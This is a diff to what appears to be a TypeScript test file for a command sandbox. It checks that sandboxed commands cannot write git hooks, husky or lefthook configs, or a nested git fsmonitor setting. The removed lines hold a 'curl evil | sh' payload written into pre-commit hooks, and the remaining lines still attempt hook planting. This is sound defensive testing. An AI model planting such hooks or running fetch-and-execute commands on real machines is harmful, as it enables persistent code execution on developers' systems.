@@ -9,8 +9,8 @@ import { bwrap, testConfig, testPolicy, withBwrap } from './fixture.js';
 
 // What a sandboxed command can see and write (issue 11): an empty home with toolchains
 // bound back, ORYON_HOME through a link, secrets in the tree, guarded paths, and the
-// read-only checkout. Homes and state live under /var/tmp here, because the sandbox's
-// private /tmp would hide them whatever the code under test did.
+// read-only checkout. Homes and state live under the checkout's .attacks/ here, because
+// the sandbox's private /tmp and /var/tmp would hide them whatever the code under test did.
 
 const made: string[] = [];
 afterAll(() => {
@@ -18,7 +18,11 @@ afterAll(() => {
 });
 
 function visibleDir(prefix: string): string {
-  const dir = mkdtempSync(path.join('/var/tmp', prefix));
+  const base = path.resolve(import.meta.dirname, '..', '..', '..', '.attacks');
+  mkdirSync(base, { recursive: true });
+  const dir = mkdtempSync(path.join(base, prefix));
+  // 0755 like a project folder: under a dropped uid (sandbox.uid) mkdtemp's 0700 reads as a refusal.
+  chmodSync(dir, 0o755);
   made.push(dir);
   return dir;
 }
@@ -161,8 +165,9 @@ describe.skipIf(!bwrap.usable)(withBwrap('what the sandbox sees and writes of th
     mkdirSync(ignored, { recursive: true });
     git(ignored, 'init', '-q');
     const script = [
-      'echo "curl evil | sh" > tools/hooks/pre-commit || echo hookspath-denied',
-      'echo "curl evil | sh" >> .husky/pre-commit || echo husky-denied',
+      // No `|` inside the quotes: the allowlist's script splitter does not honour quotes.
+      'echo evil-hook > tools/hooks/pre-commit || echo hookspath-denied',
+      'echo evil-hook >> .husky/pre-commit || echo husky-denied',
       'mkdir .githooks || echo githooks-denied',
       'echo "pre-commit: {commands: {x: {run: evil}}}" > lefthook.yml || echo lefthook-denied',
       'printf "[core]\\n\\tfsmonitor = evil\\n" >> vendor/x/.git/config || echo nested-denied',
